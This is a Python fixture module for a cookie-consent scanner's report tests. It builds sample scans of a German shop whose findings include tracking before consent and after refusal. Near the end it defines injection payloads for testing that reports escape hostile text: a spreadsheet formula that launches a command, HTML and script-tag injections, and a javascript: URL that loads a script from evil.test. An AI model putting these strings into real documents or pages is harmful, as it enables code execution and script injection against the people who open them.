"""Scans to report on: a shop with faults, a clean site, a failed scan, a hostile site, and a very large one."""

from __future__ import annotations

import struct
import zlib
from collections import Counter
from typing import Any

from scanner.model.base import Category, Party, StateName
from scanner.model.consent import BannerButton
from scanner.model.declaration import Claim, Declaration, DeclaredCookie, DeclaredVendor, Source
from scanner.model.finding import SEVERITIES, Check, Finding, LegalReference, Quote
from scanner.model.instrument import Browser, Calibration, CalibrationCheck
from scanner.model.inventory import (
    Banner,
    Beacon,
    Button,
    Choice,
    Cookie,
    FirstSeen,
    Page,
    PersonalData,
    Problem,
    RequestHost,
    SetBy,
    State,
    StorageEntry,
    Target,
    Technique,
)
from scanner.model.scan import Scan, Summary, Tool

HOST = "shop.example"
HOME = f"https://{HOST}/"
POLICY = f"{HOME}cookies"
ALL: tuple[StateName, ...] = ("accept", "before", "reject")
DAY = 86400


def browser(*, passed: bool = True) -> Browser:
    """A browser with its calibration."""
    checks = (
        CalibrationCheck(name="first-party HTTP cookie", passed=True),
        CalibrationCheck(name="script cookie", passed=True),
        CalibrationCheck(name="third-party cookie from an iframe", passed=passed, detail="blocked" * (not passed)),
    )
    calibration = Calibration(passed=passed, checks=checks)
    return Browser(name="Chromium", version="156.0", third_party_cookies=passed, calibration=calibration)


def cookie(name: str, domain: str, category: Category, **more: Any) -> Cookie:
    """A cookie of the shop; `days` is its lifetime, none for a session cookie."""
    days = more.pop("days", 365)
    party: Party = "first" if domain.lstrip(".").endswith(HOST) else "third"
    states = more.get("states", ALL)
    seen = FirstSeen(state=states[-1] if "before" not in states else "before", page=HOME, ms=412.0)
    values: dict[str, Any] = {
        "name": name,
        "domain": domain,
        "path": "/",
        "host_only": not domain.startswith("."),
        "party": party,
        "secure": True,
        "http_only": False,
        "same_site": "lax",
        "session": days is None,
        "lifetime_seconds": None if days is None else float(days * DAY),
        "kept_seconds": None if days is None else float(min(days, 400) * DAY),
        "set_by": SetBy(kind="unknown"),
        "category": category,
        "category_source": "catalogue" if category != "unknown" else "unknown",
        "first_seen": seen,
        "states": ALL,
        "pages": (HOME,),
    }
    return Cookie(**(values | more))


def state(**more: Any) -> State:
    """A state that was reached on one page."""
    values: dict[str, Any] = {
        "reached": True,
        "pages": (HOME, f"{HOME}schuhe", f"{HOME}kontakt"),
        "banner": Banner(found=False),
        "choice": Choice(),
        "signals": {},
    }
    return State(**(values | more))


def scan(**more: Any) -> Scan:
    """A complete scan in which nothing was found, with its parts replaced as asked."""
    values: dict[str, Any] = {
        "schema": "cookie-scanner/scan/1",
        "tool": Tool(version="1.2.3"),
        "browser": browser(),
        "target": Target(url=HOME, site=HOST, host=HOST),
        "started": "2026-11-22T09:30:00Z",
        "finished": "2026-11-22T09:30:21.500Z",
        "outcome": "complete",
        "problems": (),
        "states": {},
        "pages": (),
        "cookies": (),
        "storage": (),
        "requests": (),
        "beacons": (),
        "techniques": (),
        "declaration": Declaration(found=False),
        "findings": (),
        "checks": (),
    } | more
    values.setdefault("summary", _summary(values))
    return Scan(**values)


def _summary(values: dict[str, Any]) -> Summary:
    tally = Counter(finding.severity for finding in values["findings"])
    cookies: dict[StateName, dict[Category, int]] = {
        name: dict(Counter(one.category for one in values["cookies"] if name in one.states and one.blocked is None))
        for name in values["states"]
    }
    return Summary(score=None, findings={level: tally[level] for level in SEVERITIES}, cookies=cookies)


def png(width: int = 640, height: int = 400, shade: int = 235) -> bytes:
    """A plain picture of one grey."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\0" + bytes([shade]) * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    body = chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


PICTURES = {
    "screenshots/before-banner.png": png(),
    "screenshots/accept-page.png": png(shade=250),
    "screenshots/reject-page.png": png(shade=245),
}


def failed() -> Scan:
    """A host that did not answer."""
    problem = Problem(url=HOME, kind="refused", message="shop.example refused the connection on port 443")
    return scan(outcome="failed", problems=(problem,), states={"before": state(reached=False, pages=())})


def clean() -> Scan:
    """A site with one necessary cookie, declared, and every check passed."""
    rows = (
        DeclaredCookie(
            name="basket",
            category="necessary",
            purpose="Remembers the basket.",
            duration="session",
            duration_text="Session",
            quote="basket | Remembers the basket. | Session",
            source=POLICY,
        ),
    )
    rules = ("tracking-before-consent", "tracking-after-reject", "undeclared-cookie", "undeclared-vendor")
    return scan(
        states={name: state() for name in ALL},
        cookies=(cookie("basket", HOST, "necessary", days=None, purpose="Remembers the basket."),),
        requests=(request(HOST, None, "necessary", party="first"),),
        declaration=Declaration(found=True, sources=(Source(url=POLICY, sha256="0" * 64),), cookies=rows),
        checks=tuple(Check(rule=rule, outcome="passed") for rule in rules),
    )


def request(host: str, vendor: str | None, category: Category, **more: Any) -> RequestHost:
    """All requests to a host."""
    values: dict[str, Any] = {
        "host": host,
        "site": ".".join(host.split(".")[-2:]),
        "party": "third",
        "vendor": vendor,
        "category": category,
        "tracker": category in ("analytics", "marketing"),
        "count": 6,
        "bytes": 48_210,
        "states": ALL,
        "first_ms": 388.0,
    }
    return RequestHost(**(values | more))


def _banner() -> Banner:
    looks = (
        BannerButton(action="accept", layer=1, text="Alle akzeptieren", rect=(360.0, 330.0, 220.0, 44.0)),
        BannerButton(action="settings", layer=1, text="Einstellungen", rect=(120.0, 330.0, 200.0, 44.0)),
        BannerButton(action="reject", layer=2, text="Nur notwendige", rect=(120.0, 330.0, 200.0, 44.0)),
    )
    buttons = tuple(Button(action=look.action, layer=look.layer, text=look.text) for look in looks)
    return Banner(
        found=True,
        cmp="Example CMP",
        method="rule",
        languages=("de",),
        buttons=buttons,
        preselected=("Statistik",),
        looks=looks,
    )


def _shop_states() -> dict[StateName, State]:
    banner = _banner()
    accept = Choice(made="accept", verified=True, clicks=1, how="rule example-cmp")
    reject = Choice(made="reject", verified=True, clicks=2, how="rule example-cmp")
    signals = {"tcf": {"gdprApplies": True, "tcString": "CPz"}, "google_consent_mode": {"ad_storage": "denied"}}
    return {
        "before": state(banner=banner, signals=signals, screenshots=("screenshots/before-banner.png",)),
        "accept": state(banner=banner, choice=accept, screenshots=("screenshots/accept-page.png",)),
        "reject": state(banner=banner, choice=reject, screenshots=("screenshots/reject-page.png",)),
    }


def _shop_cookies() -> tuple[Cookie, ...]:
    tag = "https://tag.manager.test/gtm.js?id=GTM-AB12"
    fbp_line = "_fbp=fb.1.1; Max-Age=7776000; Domain=.shop.example; Path=/; Secure; SameSite=Lax"
    script = SetBy(
        kind="script", url="https://pixel.social.test/events.js", initiators=(tag, HOME), raw=fbp_line, line=14
    )
    ide = SetBy(
        kind="http",
        url="https://ads.network.test/collect?x=1",
        initiators=(tag, HOME),
        raw="IDE=AHW; expires=Sat, 23-Dec-2028 09:30:00 GMT; path=/; domain=.network.test; Secure; HttpOnly",
    )
    statistics: dict[str, Any] = {"vendor": "Example Statistics", "purpose": "Tells visitors apart.", "days": 730}
    return (
        cookie("_ads_id", ".network.test", "marketing", vendor="Ad Network", days=390, set_by=ide, identifier=True),
        cookie("_fbp", ".shop.example", "marketing", vendor="Social Pixel", days=90, set_by=script, identifier=True),
        cookie("_ga", ".shop.example", "analytics", **statistics),
        cookie("_ga_8X2K9QL1AB", ".shop.example", "analytics", **statistics),
        cookie("basket", HOST, "necessary", days=None, purpose="Remembers the basket."),
        cookie("cmp_consent", HOST, "necessary", vendor="Example CMP", states=("accept", "reject"), days=180),
        cookie("lang", HOST, "functional", purpose="Remembers the language.", days=30),
        cookie("prefs_x", HOST, "unknown", days=30, states=("accept",)),
        cookie("refused", ".network.test", "marketing", blocked="SameSiteNoneInsecure", states=("accept",)),
        cookie("vid", ".video.test", "marketing", vendor="Video Host", states=("accept",), days=180),
    )


def _shop_beacons() -> tuple[Beacon, ...]:
    common: dict[str, Any] = {"party": "third", "states": ALL, "pages": (HOME,)}
    seen = FirstSeen(state="before", page=HOME, ms=1240.0)
    return (
        Beacon(
            url="https://collect.statistics.test/g/collect",
            host="collect.statistics.test",
            kind="fetch",
            vendor="Example Statistics",
            category="analytics",
            event="page_view",
            account="G-8X2K9QL1AB",
            consent_signal="G111",
            identifiers=("cid",),
            initiators=("https://collect.statistics.test/gtag.js", HOME),
            count=9,
            first_seen=seen,
            **common,
        ),
        Beacon(
            url="https://pixel.social.test/tr",
            host="pixel.social.test",
            kind="pixel",
            vendor="Social Pixel",
            category="marketing",
            event="PageView",
            account="123456789",
            initiators=("https://pixel.social.test/events.js", HOME),
            first_seen=seen,
            **common,
        ),
    )


def _shop_declaration() -> Declaration:
    def row(name: str, category: Any, duration: int | None, text: str, purpose: str) -> DeclaredCookie:
        return DeclaredCookie(
            name=name,
            category=category,
            purpose=purpose,
            duration=duration,
            duration_text=text,
            provider="Example Statistics" if category == "analytics" else None,
            quote=f"{name} | {purpose} | {text}",
            source=POLICY,
        )

    return Declaration(
        found=True,
        sources=(Source(url=POLICY, title="Cookie-Richtlinie", language="de", sha256="0" * 64),),
        policy_language="de",
        cookies=(
            row("_ga", "analytics", 395 * DAY, "13 Monate", "Unterscheidet Besucher"),
            row("_ga_*", "analytics", 730 * DAY, "2 Jahre", "Unterscheidet Besucher"),
            row("basket", "necessary", None, "Sitzung", "Warenkorb"),
            row("chat_open", "functional", 30 * DAY, "30 Tage", "Merkt sich das Chatfenster"),
        ),
        vendors=(
            DeclaredVendor(
                name="Example Statistics",
                purpose_category="analytics",
                quote="Wir nutzen Example Statistics, um unser Angebot zu verbessern.",
                source=POLICY,
            ),
        ),
        claims=(
            Claim(code="no_marketing_cookies", evidence="Wir setzen keine Cookies zu Werbezwecken ein.", source=POLICY),
            Claim(
                code="prior_consent_nonessential",
                evidence="Nicht notwendige Cookies setzen wir erst, nachdem Sie eingewilligt haben.",
                source=POLICY,
            ),
        ),
    )


_EPRIVACY = LegalReference(
    name="ePrivacy Directive, Art. 5(3)", url="https://eur-lex.europa.eu/eli/dir/2002/58/2009-12-19"
)


def _shop_findings() -> tuple[Finding, ...]:
    return (
        Finding(
            rule="tracking-before-consent",
            severity="high",
            title="Three companies receive data before a visitor has chosen",
            subject="Ad Network, Social Pixel, Example Statistics",
            states=("before",),
            detail=(
                "On the first page, before any button of the banner was pressed, the browser sent data to Ad Network, "
                "Social Pixel and Example Statistics, and kept four of their cookies."
            ),
            observed=("/beacons/0", "/beacons/1", "/cookies/0", "/cookies/1", "/cookies/2"),
            declared=Quote(
                quote="Nicht notwendige Cookies setzen wir erst, nachdem Sie eingewilligt haben.", source=POLICY
            ),
            legal=(_EPRIVACY,),
            fix=(
                "Load these services only after consent.\n"
                "1. In the tag manager, give each tag a consent condition.\n"
                "2. Remove copies of the tags that stand in the page itself.\n"
                "3. Scan again."
            ),
            confidence="certain",
        ),
        Finding(
            rule="tracking-after-reject",
            severity="high",
            title="The same companies receive data after a visitor has refused",
            subject="Ad Network, Social Pixel",
            states=("reject",),
            detail="“Nur notwendige” was pressed and confirmed. Requests to both companies went on.",
            observed=("/beacons/1", "/cookies/0"),
            legal=(_EPRIVACY,),
            fix="Tie these tags to the answer that the banner stores.",
            confidence="certain",
        ),
        Finding(
            rule="reject-harder-than-accept",
            severity="medium",
            title="Refusing takes two clicks, accepting takes one",
            subject=HOST,
            states=("before",),
            detail="The first layer of the banner has “Alle akzeptieren” but no button that refuses.",
            observed=("/states/before/banner",),
            fix="Put a button that refuses on the first layer, as large and as plain as the other.",
            confidence="likely",
        ),
        Finding(
            rule="undeclared-cookie",
            severity="medium",
            title="Three cookies are missing from the policy",
            subject="_ads_id@.network.test, _fbp@.shop.example, vid@.video.test",
            states=ALL,
            detail="The policy has a table of cookies, and these are not in it.",
            observed=("/cookies/0", "/cookies/1", "/cookies/9"),
            fix="Add them. The draft in declaration.html has the rows.",
            confidence="certain",
        ),
        Finding(
            rule="promise-broken",
            severity="medium",
            title="The policy says that there is no advertising",
            subject="no_marketing_cookies",
            states=("accept", "before"),
            detail="Advertising cookies were seen.",
            observed=("/cookies/0", "/declaration/claims/0"),
            declared=Quote(quote="Wir setzen keine Cookies zu Werbezwecken ein.", source=POLICY),
            fix="Delete the sentence, or the advertising.",
            confidence="certain",
        ),
        Finding(
            rule="lifetime-mismatch",
            severity="low",
            title="A cookie lives longer than the policy says",
            subject="_ga@.shop.example",
            states=ALL,
            detail="Declared: 13 months. Asked for: 2 years.",
            observed=("/cookies/2", "/declaration/cookies/0"),
            declared=Quote(quote="_ga | Unterscheidet Besucher | 13 Monate", source=POLICY),
            fix="Write “2 years”, or shorten the cookie.",
            confidence="certain",
        ),
        Finding(
            rule="declared-not-observed",
            severity="info",
            title="One declared cookie was not seen",
            subject="chat_open",
            states=ALL,
            detail="A short scan does not open the chat.",
            observed=("/declaration/cookies/3",),
            fix="Keep the row if the chat is still in use.",
            confidence="check",
        ),
    )


def shop() -> Scan:
    """A German shop with seven findings in three states."""
    pages = tuple(
        Page(url=url, state=name, status=200, title="Schuhe – Beispielshop", ms=640.0, settled_by="virtual-time")
        for name in ALL
        for url in (HOME, f"{HOME}kontakt", f"{HOME}schuhe")
    )
    checks = tuple(Check(rule=finding.rule, outcome="found") for finding in _shop_findings())
    return scan(
        states=_shop_states(),
        pages=pages,
        cookies=_shop_cookies(),
        storage=(
            StorageEntry(
                kind="local",
                origin=f"https://{HOST}",
                key="uid_3f2504e04f8911d3",
                party="first",
                identifier=True,
                category="analytics",
                vendor="Example Statistics",
                purpose="Tells visitors apart.",
                states=ALL,
            ),
        ),
        requests=(
            request("ads.network.test", "Ad Network", "marketing", carries_identifier=True),
            request("cdn.fonts.test", "Font Host", "functional"),
            request("collect.statistics.test", "Example Statistics", "analytics"),
            request("img.partner.test", None, "unknown", states=("accept",), count=1),
            request("pixel.social.test", "Social Pixel", "marketing"),
            request(HOST, None, "necessary", party="first", count=211, bytes=2_810_411),
            request("www.video.test", "Video Host", "marketing", states=("accept",)),
        ),
        beacons=_shop_beacons(),
        techniques=(Technique(kind="canvas", host="ads.network.test", states=("accept",), detail="toDataURL, twice"),),
        problems=(Problem(state="accept", url=f"{HOME}kontakt", kind="timeout", message="The page took too long"),),
        declaration=_shop_declaration(),
        findings=_shop_findings(),
        checks=(
            *checks,
            Check(rule="no-withdrawal", outcome="inconclusive", reason="The state was not part of this scan"),
        ),
    )


def refused() -> Scan:
    """The shop where a video company begins after the refusal, and a pixel is sent what was typed into a form."""
    seen = FirstSeen(state="reject", page=HOME, ms=3150.0, after_choice_ms=404.0, phase="chosen")
    accepted = FirstSeen(state="accept", page=HOME, ms=2000.0, after_choice_ms=1250.0, phase="chosen")
    good = shop()
    late = cookie("vid", ".video.test", "marketing", vendor="Video Host", states=("accept", "reject"), first_seen=seen)
    prefs = cookie("prefs_x", HOST, "unknown", days=30, states=("accept",), first_seen=accepted)
    others = tuple(one for one in good.cookies if one.name not in ("vid", "prefs_x"))
    beacon = good.beacons[1].model_copy(update={"states": ("reject",), "first_seen": seen})
    finding = good.findings[0].model_copy(
        update={"states": ("reject",), "observed": (f"/cookies/{len(others)}", "/personal_data/0")}
    )
    sent = PersonalData(
        data="email", source="typed", form="sha256", where="body", host="pixel.social.test", party="third",
        vendor="Social Pixel", category="marketing", script="https://pixel.social.test/events.js", states=("before",),
    )  # fmt: skip
    return good.model_copy(
        update={
            "cookies": (*others, late, prefs),
            "beacons": (good.beacons[0], beacon),
            "findings": (finding,),
            "personal_data": (sent,),
        }
    )


ATTACK = "=cmd|'/c calc'!A1</script></title></style><img src=x onerror=alert(1)><script>alert(2)</script>\"'--\u202e"
EVIL_URL = 'javascript:alert(3)//https://evil.test/"><script src=https://evil.test/x.js></script>'


def hostile() -> Scan:
    """The shop with script and formula injection in every text that a stranger writes."""
    return poisoned(shop())


def poisoned(good: Scan) -> Scan:
    """A scan in which every free text is replaced by an attack."""
    return Scan.model_validate(_poison(good.model_dump(by_alias=True)))


_ADDRESSES = {"url", "source", "example_url", "script"}
_TEXTS = {
    "title", "message", "name", "domain", "path", "vendor", "purpose", "raw", "detail", "subject", "fix", "quote",
    "evidence", "text", "duration_text", "provider", "cmp", "key", "event", "account", "consent_signal", "reason",
    "error", "blocked", "partition_key", "how", "same_site", "category_source", "version", "kind_", "origin",
}  # fmt: skip
_LISTS = {"initiators", "identifiers", "preselected", "sent_to", "synced_with", "pages", "observed"}


def _poison(value: Any, key: str = "") -> Any:
    if isinstance(value, dict):
        if value.get("name") == "cookie-scanner":
            return value
        if key == "signals":
            return {ATTACK: ATTACK}
        return {name: _poison(item, name) for name, item in value.items()}
    if isinstance(value, tuple | list):
        if key in _LISTS and (value or key != "pages") and all(isinstance(item, str) for item in value):
            return (*(item for item in value if key == "observed"), EVIL_URL, ATTACK)
        return tuple(_poison(item) for item in value)
    if isinstance(value, str) and key in _ADDRESSES and value != "typed":
        return EVIL_URL
    if isinstance(value, str) and key in _TEXTS:
        return ATTACK
    return value


def large(cookies: int = 5000, hosts: int = 1000) -> Scan:
    """A site with thousands of cookies and hosts, many of them undeclared."""
    categories: tuple[Category, ...] = ("marketing", "analytics", "unknown", "functional", "necessary")
    rows = tuple(
        cookie(
            f"cookie_{position:05d}",
            f".host{position % hosts}.test",
            categories[position % 5],
            vendor=f"Company {position % 97}",
            set_by=SetBy(
                kind="http",
                url=f"https://host{position % hosts}.test/set?n={position}",
                initiators=(f"https://host{position % 7}.test/a.js", HOME),
                raw=f"cookie_{position:05d}={'v' * 60}; Max-Age=31536000; Path=/; Secure; SameSite=None",
            ),
        )
        for position in range(cookies)
    )
    finding = Finding(
        rule="undeclared-cookie",
        severity="medium",
        title=f"{cookies} cookies are missing from the policy",
        subject=", ".join(f"{one.name}@{one.domain}" for one in rows),
        states=ALL,
        detail="They are not in the table.",
        observed=tuple(f"/cookies/{position}" for position in range(cookies)),
        fix="Add them.",
        confidence="certain",
    )
    requests = tuple(
        request(f"host{position}.test", f"Company {position % 97}", categories[position % 5], count=100)
        for position in range(hosts)
    )
    declared = tuple(
        DeclaredCookie(name=f"declared_{position}_*", quote=f"declared_{position}_*", source=POLICY)
        for position in range(300)
    )
    return scan(
        states=_shop_states(),
        cookies=rows,
        requests=requests,
        declaration=Declaration(found=True, cookies=declared),
        findings=(finding,),
        checks=(Check(rule="undeclared-cookie", outcome="found"),),
    )
